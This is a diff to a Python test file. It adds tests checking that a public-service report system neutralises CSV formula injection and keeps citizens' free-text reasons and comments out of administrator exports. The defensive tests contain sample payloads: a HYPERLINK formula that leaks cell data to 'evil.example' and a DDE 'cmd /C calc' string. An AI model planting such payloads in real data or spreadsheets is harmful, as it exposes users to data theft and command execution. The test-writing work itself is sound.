@@ -105,6 +105,7 @@ def _summary(station: Station, start: date, end: date, procedure: str | None = N
             Period(start, end),
             procedure,
             now=datetime(2026, 12, 31, tzinfo=VN_TZ),
+            free_text=True,
         )
     return report.data["summary"]
 
@@ -206,7 +207,13 @@ def test_bad_parameters_are_problems_with_a_field(
         assert r.json()["field"] == field
 
 
-def _today_history(client: TestClient, as_user: Any, tablet: Tablet) -> dict[str, Any]:
+def _today_history(
+    client: TestClient,
+    as_user: Any,
+    tablet: Tablet,
+    supplement_reason: str = SUPPLEMENT_REASON,
+    refusal_reason: str = REFUSAL_REASON,
+) -> dict[str, Any]:
     """Real dossiers through push and the HTTP workflow, today."""
     done = tablet.dossier(channel="home_visit")
     supp = tablet.dossier()
@@ -229,8 +236,8 @@ def _today_history(client: TestClient, as_user: Any, tablet: Tablet) -> dict[str
         ("vanthu", "return"),
     ):
         act(who, done["id"], action)
-    act("thamdinh", supp["id"], "request_supplement", SUPPLEMENT_REASON)
-    act("thamdinh", refused["id"], "refuse", REFUSAL_REASON)
+    act("thamdinh", supp["id"], "request_supplement", supplement_reason)
+    act("thamdinh", refused["id"], "refuse", refusal_reason)
     return done
 
 
@@ -352,6 +359,14 @@ def test_cli_report(
         assert SUPPLEMENT_REASON not in shown and REFUSAL_REASON not in shown, fmt
     assert json.loads((tmp_path / "r.json").read_text())["summary"]["refusals"]["total"] == 1
     assert "chỉ lãnh đạo được xem" in _pdftotext(tmp_path / "r.pdf")
+    # The command line is the administrator's: no reason or comment that can name a
+    # citizen (issue 22 §2); the figures are all there.
+    for fmt in ("json", "csv", "pdf"):
+        got = (
+            _pdftotext(tmp_path / "r.pdf") if fmt == "pdf" else (tmp_path / f"r.{fmt}").read_text()
+        )
+        assert SUPPLEMENT_REASON not in got and REFUSAL_REASON not in got, fmt
+    assert "Số lần yêu cầu bổ sung,1" in (tmp_path / "r.csv").read_text(encoding="utf-8-sig")
     bad = ["admin", "--data", str(data_dir), "report", "--from", "x", "--to", today]
     assert main(bad) == 1
 
@@ -430,3 +445,71 @@ def test_every_report_anchors_the_audit_chain(demo_station: Station, history: Hi
         assert anchored["rows"] == head["rows"] and anchored["head"] == head["head"]
         audit.check_anchor(db, demo_station.keys.ed_pk, anchored)  # genuine and current
         assert audit.verify_all(db, demo_station.keys.ed_pk, [anchored])["anchors_checked"] >= 1
+
+
+# A refusal reason and a comment written to be run by the spreadsheet that opens the CSV.
+FORMULA_REASON = '=HYPERLINK("http://evil.example/?d="&A1,"Xem")'
+FORMULA_COMMENTS = ("+1+2", "-2+3", "@SUM(1,1)", "=1+1")  # tab, CR: tests/shared
+
+
+def test_csv_cells_that_would_start_a_formula_are_neutralised(
+    client: TestClient, as_user: Any, tablet: Tablet, demo_station: Station
+) -> None:
+    """Issue 22 §2 (OWASP CSV injection): a cell starting with = + - @ tab or CR gets a
+    leading apostrophe, so a spreadsheet shows it as text instead of running it."""
+    done = _today_history(client, as_user, tablet, "@cmd|' /C calc'!A0", FORMULA_REASON)
+    comments = []
+    for i, comment in enumerate(FORMULA_COMMENTS):
+        d = done if i == 0 else tablet.dossier()
+        if i:
+            assert tablet.push([tablet.change(d)]).status_code == 200
+        with demo_station.session() as db, transaction(db):
+            reports.record_rating(
+                db,
+                demo_station.keys,
+                dossier_id=d["id"],
+                level="satisfied",
+                comment=comment,
+                actor="vanthu",
+            )
+        comments.append(comment)
+    today = vn_now().date().isoformat()
+    r = client.get(f"/v1/reports/summary.csv?from={today}&to={today}", headers=as_user("lanhdao"))
+    assert r.status_code == 200, r.text
+    rows = list(csv.reader(io.StringIO(r.content.decode("utf-8-sig"))))
+    cells = [cell for row in rows for cell in row]
+    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
+    assert ["Lý do từ chối", "", "'" + FORMULA_REASON, "1"] in rows
+    assert ["Lý do bổ sung", "", "'@cmd|' /C calc'!A0", "1"] in rows
+    for comment in comments:
+        assert "'" + comment in cells, comment
+
+
+def test_admin_exports_carry_no_free_text(
+    client: TestClient, as_user: Any, tablet: Tablet, demo_station: Station
+) -> None:
+    """Reasons and comments can name citizens: the leader reads them, the admin does not
+    (least privilege, issue 22 §2) — in the JSON, the CSV and the PDF alike."""
+    done = _today_history(client, as_user, tablet)
+    with demo_station.session() as db, transaction(db):
+        reports.record_rating(
+            db,
+            demo_station.keys,
+            dossier_id=done["id"],
+            level="satisfied",
+            comment=COMMENT,
+            actor="vanthu",
+        )
+    today = vn_now().date().isoformat()
+    q = f"from={today}&to={today}"
+    texts = (SUPPLEMENT_REASON, REFUSAL_REASON, COMMENT)
+    for path in ("/v1/reports/summary", "/v1/reports/summary.csv"):
+        leader = client.get(f"{path}?{q}", headers=as_user("lanhdao")).content.decode()
+        admin = client.get(f"{path}?{q}", headers=as_user("quantri"))
+        assert admin.status_code == 200
+        assert all(t in leader for t in texts), path
+        assert not [t for t in texts if t in admin.content.decode()], path
+    body = client.get(f"/v1/reports/summary?{q}", headers=as_user("quantri")).json()
+    assert body["summary"]["supplements"]["requests"] == 1  # the figures stay
+    assert body["summary"]["refusals"]["total"] == 1
+    assert body["free_text"] is False and body["page"]["free_text"] is False
